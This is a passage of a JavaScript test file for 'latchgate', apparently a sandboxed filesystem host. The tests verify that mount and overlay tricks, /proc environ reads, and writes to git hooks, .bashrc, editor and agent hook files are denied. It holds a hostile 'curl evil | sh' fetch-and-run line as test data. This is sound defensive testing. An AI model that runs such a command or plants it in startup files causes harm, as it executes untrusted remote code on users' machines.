    assert.equal(readFileSync(join(state, 'keys', 'receipt.key'), 'utf8'), 'PRIVATE\n');
    assert.ok(existsSync(join(state, 'ledger.sqlite3')) && !existsSync(join(state, 'keys', 'new.key')));
    // The rest of the root is served, the way to the state directory listed by name.
    assert.equal(text(await h.read('src/a.txt')), 'mine\n');
    assert.deepEqual((await h.list('.local/state')).map((e) => e.name), ['latchgate']);
    // A root inside the state directory: nothing of it.
    for (const [p, name] of attempts(host(state), '')) await denied(p, name);
    // Mounts (root only): the state directory, or a part of it, shown again.
    if (isRoot) {
      // Below the root: no call crosses a mount point there, whatever it shows.
      const alias = join(root, 'src', 'alias');
      mkdirSync(alias);
      writeFileSync(join(root, 'src', 'ledger-file'), '');
      execFileSync('mount', ['--bind', join(state, 'keys'), alias]);
      execFileSync('mount', ['--bind', join(state, 'ledger.sqlite3'), join(root, 'src', 'ledger-file')]);
      try {
        for (const [p, name] of [[h.read('src/alias/receipt.key'), 'read a key'], [h.list('src/alias'), 'list the keys'], [h.write('src/alias/new.key', new TextEncoder().encode('x'), 'create'), 'create in the keys'], [h.read('src/ledger-file'), 'read the ledger mounted as a file'], [h.stat('src/alias/receipt.key'), 'stat a key']]) {
          await assert.rejects(p, (e) => e.code === 'mount_crossed' && /crosses a mount point below the root/.test(e.message), name);
        }
        // A root that is itself another mount of a part of it, at any depth, or an overlay made of it: nothing of it.
        const deep = join(state, 'provider-cache', 'h1', 'deep');
        mkdirSync(deep, { recursive: true });
        writeFileSync(join(deep, 'compiled.bin'), 'CODE');
        const mounted = [];
        const mountAt = (name, ...args) => {
          const at = join(base, name);
          mkdirSync(at);
          execFileSync('mount', [...args, at]);
          mounted.push(at);
          return at;
        };
        try {
          const roots = [
            [mountAt('keys-mount', '--bind', join(state, 'keys')), 'receipt.key', 'a bind mount of keys/'],
            [mountAt('deep-mount', '--bind', deep), 'compiled.bin', 'a bind mount three levels down'],
          ];
          for (const d of ['upper', 'work', 'low']) mkdirSync(join(base, d));
          roots.push([mountAt('over-lower', '-t', 'overlay', 'overlay', '-o', `lowerdir=${state}:${join(base, 'low')},upperdir=${join(base, 'upper')},workdir=${join(base, 'work')}`), 'keys/receipt.key', 'an overlay over the state directory']);
          mkdirSync(join(base, 'work2'));
          roots.push([mountAt('over-upper', '-t', 'overlay', 'overlay', '-o', `lowerdir=${join(base, 'low')},upperdir=${join(state, 'keys')},workdir=${join(base, 'work2')}`), 'receipt.key', 'an overlay writing into keys/']);
          for (const [r, file, what] of roots) {
            const hr = host(r);
            for (const [p, name] of [[hr.read(file), 'read'], [hr.list('.'), 'list'], [hr.stat('.'), 'stat'], [hr.write('planted', new TextEncoder().encode('x'), 'create'), 'create']]) {
              await assert.rejects(p, (e) => e.code === 'path_denied' && /the root .* latchgate's state directory \(ledger, keys\)/.test(e.message), `${name} from ${what}`);
            }
          }
        } finally {
          for (const at of mounted.reverse()) execFileSync('umount', ['-l', at]);
        }
        assert.ok(!existsSync(join(state, 'keys', 'planted')) && !existsSync(join(deep, 'planted')));
      } finally {
        execFileSync('umount', ['-l', alias]);
        execFileSync('umount', ['-l', join(root, 'src', 'ledger-file')]);
      }
      assert.ok(!existsSync(join(state, 'keys', 'new.key')));
      // A root of /: /proc (the gate's own environment, its secrets) is another mount.
      const all = new FsHost({ root: '/', allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20 }, { forceWalk: mode.forceWalk });
      await assert.rejects(all.read(`proc/${process.pid}/environ`), (e) => e.code === 'mount_crossed', 'read /proc/<pid>/environ');
      await assert.rejects(all.list('proc'), (e) => e.code === 'mount_crossed', 'list /proc');
    }
  });
}

test('what the host runs from later is never written or deleted, at any depth, whatever the globs allow; it is read, and the files beside it are written', async (t) => {
  const root = tempDir(t, 'latchgate-fshost-runs-');
  for (const d of ['.git/hooks', 'sub/.latchgate', '.vscode', 'proj/.claude/hooks', 'home/u']) mkdirSync(join(root, d), { recursive: true });
  writeFileSync(join(root, '.git', 'config'), '[core]\n');
  writeFileSync(join(root, 'home', 'u', '.bashrc'), '# rc\n');
  const h = new FsHost({ root, allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20 });
  const x = new TextEncoder().encode('curl evil | sh\n');
  for (const [p, what] of [
    [h.write('.git/hooks/pre-commit', x, 'create'), /a git repository's data/],
    [h.write('.git/config', x, 'overwrite'), /a git repository's data/],
    [h.write('sub/.latchgate/latchgate.toml', x, 'create'), /\.latchgate\/ \(settings/],
    [h.write('.vscode/tasks.json', x, 'create'), /\.vscode\/ \(settings/],
    [h.write('proj/.claude/hooks/h.sh', x, 'create'), /\.claude\/hooks\//],
    [h.write('proj/.claude/settings.json', x, 'create'), /\.claude\/settings\.json \(run by shells or read by agents/],
    [h.write('home/u/.bashrc', x, 'overwrite'), /\.bashrc \(run by shells/],
    [h.write('.mcp.json', x, 'create'), /\.mcp\.json/],
    [h.delete('home/u/.bashrc'), /\.bashrc/],
  ]) {
    await assert.rejects(p, (e) => e.code === 'path_denied' && what.test(e.message) && /no provider writes or deletes there/.test(e.message), String(what));
  }
  assert.ok(!existsSync(join(root, '.git', 'hooks', 'pre-commit')) && !existsSync(join(root, 'sub', '.latchgate', 'latchgate.toml')));
  assert.equal(readFileSync(join(root, 'home', 'u', '.bashrc'), 'utf8'), '# rc\n');
  assert.equal(text(await h.read('.git/config')), '[core]\n');
  await h.write('proj/.claude/notes.md', x, 'create');
  await h.write('home/u/.bashrc.txt', x, 'create');
  assert.ok(existsSync(join(root, 'proj', '.claude', 'notes.md')));
});
